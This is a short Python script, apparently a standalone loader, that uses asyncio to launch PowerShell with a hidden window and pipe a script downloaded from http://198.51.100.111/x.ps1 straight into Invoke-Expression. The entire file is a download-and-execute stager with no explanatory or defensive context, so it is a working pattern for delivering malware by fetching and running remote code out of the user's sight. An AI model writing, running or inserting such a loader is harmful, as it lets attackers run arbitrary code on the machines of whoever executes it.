import asyncio
async def _go():
    p = await asyncio.create_subprocess_exec("powershell", "-w", "hidden", "-c", "iwr http://198.51.100.111/x.ps1 | iex")
    await p.wait()
asyncio.run(_go())
